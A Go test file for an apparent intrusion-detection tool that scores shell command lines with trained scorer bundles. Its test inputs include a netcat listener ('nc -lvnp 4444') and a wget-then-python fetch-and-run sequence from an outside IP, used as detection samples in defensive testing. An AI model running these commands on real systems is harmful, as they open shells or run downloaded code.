package main

import (
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"clmids/internal/commercial"
	"clmids/internal/core"
	"clmids/internal/corpus"
)

// fixture trains a tiny pipeline and writes its training log once, shared
// across the command tests; bundles holds one scorer bundle per method,
// built from them on first use.
type fixture struct {
	dir      string
	dataPath string
	pl       *core.Pipeline
	train    *corpus.Dataset
	bundles  map[string]string // method → bundle directory
}

var (
	fixOnce sync.Once
	fix     fixture
	fixErr  error
)

// TestMain removes the shared fixture directory (a t.TempDir would be
// torn down when its creating test ends, breaking the sync.Once sharing).
func TestMain(m *testing.M) {
	code := m.Run()
	if fix.dir != "" {
		os.RemoveAll(fix.dir)
	}
	os.Exit(code)
}

// bundleFor returns a bundle serving method, built the way clmtrain -bundle
// builds one (commercial-IDS labels over the training log), plus the path
// of that training log.
func bundleFor(t *testing.T, method string) (bundleDir, dataPath string) {
	t.Helper()
	fixOnce.Do(func() {
		fix.bundles = map[string]string{}
		if fix.dir, fixErr = os.MkdirTemp("", "clmdetect-fixture-"); fixErr != nil {
			return
		}
		ccfg := corpus.DefaultConfig()
		ccfg.TrainLines = 500
		ccfg.TestLines = 50
		ccfg.IntrusionRate = 0.2
		if fix.train, _, fixErr = corpus.Generate(ccfg); fixErr != nil {
			return
		}
		fix.dataPath = filepath.Join(fix.dir, "train.jsonl")
		f, err := os.Create(fix.dataPath)
		if err != nil {
			fixErr = err
			return
		}
		defer f.Close()
		if fixErr = fix.train.WriteJSONL(f); fixErr != nil {
			return
		}
		pcfg := core.TinyExperiment().Pipeline
		pcfg.Pretrain.Epochs = 1
		fix.pl, fixErr = core.BuildPipeline(fix.train.Lines(), pcfg)
	})
	if fixErr != nil {
		t.Fatalf("fixture: %v", fixErr)
	}
	if dir, ok := fix.bundles[method]; ok {
		return dir, fix.dataPath
	}
	lines := fix.train.Lines()
	labels, err := commercial.Default().Label(lines, commercial.DefaultNoise(), 1)
	if err != nil {
		t.Fatal(err)
	}
	bs, err := core.BuildScorerFull(fix.pl, core.ScorerConfig{Method: method, Epochs: 3, Seed: 1}, lines, labels)
	if err != nil {
		t.Fatalf("%s scorer: %v", method, err)
	}
	dir := filepath.Join(fix.dir, "bundle-"+method)
	if _, err := core.SaveBundle(dir, fix.pl, bs, "detect-test-"+method); err != nil {
		t.Fatal(err)
	}
	fix.bundles[method] = dir
	return dir, fix.dataPath
}

func TestDetectMethods(t *testing.T) {
	input := filepath.Join(t.TempDir(), "lines.txt")
	err := os.WriteFile(input, []byte("nc -lvnp 4444\nls -la /srv\n"), 0o644)
	if err != nil {
		t.Fatal(err)
	}
	for _, method := range []string{"classifier", "retrieval", "pca"} {
		bundleDir, _ := bundleFor(t, method)
		if err := run([]string{"-bundle", bundleDir, "-input", input, "-top", "2"}); err != nil {
			t.Errorf("method %s: %v", method, err)
		}
	}
}

// TestDetectRequiresBundle: a bundle is the only way to get a scorer, and
// its absence fails up front with an error that says how to make one.
func TestDetectRequiresBundle(t *testing.T) {
	err := run([]string{"-input", "-"})
	if err == nil || !strings.Contains(err.Error(), "-bundle") ||
		!strings.Contains(err.Error(), "clmtrain -bundle") {
		t.Fatalf("missing -bundle: %v", err)
	}
}

// TestDetectFromBundle: batch and follow mode cold-start from a bundle, and
// a missing bundle directory is an error.
func TestDetectFromBundle(t *testing.T) {
	bundleDir, _ := bundleFor(t, "pca")
	input := filepath.Join(t.TempDir(), "lines.txt")
	if err := os.WriteFile(input, []byte("nc -lvnp 4444\nls -la /srv\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-bundle", bundleDir, "-input", input, "-top", "2"}); err != nil {
		t.Fatalf("batch from bundle: %v", err)
	}
	if err := run([]string{"-bundle", bundleDir, "-input", input, "-follow"}); err != nil {
		t.Fatalf("follow from bundle: %v", err)
	}
	if err := run([]string{"-bundle", filepath.Join(t.TempDir(), "absent"), "-input", input}); err == nil {
		t.Fatal("missing bundle accepted")
	}
}

func TestReadInputJSONLAndPlain(t *testing.T) {
	dir := t.TempDir()
	jsonl := filepath.Join(dir, "x.jsonl")
	os.WriteFile(jsonl, []byte(`{"line":"ls -la","label":"benign"}`+"\n"), 0o644)
	lines, err := readInput(jsonl)
	if err != nil || len(lines) != 1 || lines[0] != "ls -la" {
		t.Fatalf("jsonl input: %v %v", lines, err)
	}
	plain := filepath.Join(dir, "x.txt")
	os.WriteFile(plain, []byte("cat /etc/hosts\n\ndf -h\n"), 0o644)
	lines, err = readInput(plain)
	if err != nil || len(lines) != 2 {
		t.Fatalf("plain input: %v %v", lines, err)
	}
}

// TestReadInputReportsTrueLineNumbers: the JSONL stream is parsed once,
// so a malformed record names its actual position, not "line 1".
func TestReadInputReportsTrueLineNumbers(t *testing.T) {
	dir := t.TempDir()
	jsonl := filepath.Join(dir, "x.jsonl")
	body := `{"line":"ls","label":"benign"}` + "\n" +
		`{"line":"df -h","label":"benign"}` + "\n" +
		`{"line":"broken"` + "\n" + // malformed: line 3
		`{"line":"ps","label":"benign"}` + "\n"
	os.WriteFile(jsonl, []byte(body), 0o644)
	_, err := readInput(jsonl)
	if err == nil || !strings.Contains(err.Error(), "line 3") {
		t.Fatalf("malformed record error %v does not name line 3", err)
	}
}

// TestReadInputLargeJSONL: single-pass parsing holds beyond the peek
// buffer (the old per-line re-parse rebuilt a decoder per record).
func TestReadInputLargeJSONL(t *testing.T) {
	dir := t.TempDir()
	jsonl := filepath.Join(dir, "big.jsonl")
	var b strings.Builder
	for i := 0; i < 5000; i++ {
		b.WriteString(`{"line":"echo line`)
		b.WriteString(strings.Repeat("x", 20))
		b.WriteString(`","label":"benign"}` + "\n")
	}
	os.WriteFile(jsonl, []byte(b.String()), 0o644)
	lines, err := readInput(jsonl)
	if err != nil || len(lines) != 5000 {
		t.Fatalf("large jsonl: %d lines, %v", len(lines), err)
	}
}

// TestFollowMode streams both plain-text and JSONL input through the
// session-aware detector.
func TestFollowMode(t *testing.T) {
	pcaBundle, dataPath := bundleFor(t, "pca")
	plain := filepath.Join(t.TempDir(), "tail.txt")
	os.WriteFile(plain, []byte("whoami\nwget -c http://203.0.113.9/7e31 -o python\npython\n"), 0o644)
	err := run([]string{
		"-bundle", pcaBundle,
		"-follow", "-input", plain, "-context", "3", "-aggregation", "max",
	})
	if err != nil {
		t.Errorf("follow plain: %v", err)
	}

	// JSONL input carries its own users and timestamps.
	retrievalBundle, _ := bundleFor(t, "retrieval")
	err = run([]string{
		"-bundle", retrievalBundle,
		"-follow", "-input", dataPath, "-session-threshold", "0.5",
	})
	if err != nil {
		t.Errorf("follow jsonl: %v", err)
	}
}

func TestFollowRejectsBadAggregation(t *testing.T) {
	bundleDir, dataPath := bundleFor(t, "pca")
	err := run([]string{
		"-bundle", bundleDir,
		"-follow", "-aggregation", "bogus", "-input", dataPath,
	})
	if err == nil || !strings.Contains(err.Error(), "unknown aggregation") {
		t.Fatalf("bad aggregation: %v", err)
	}
}
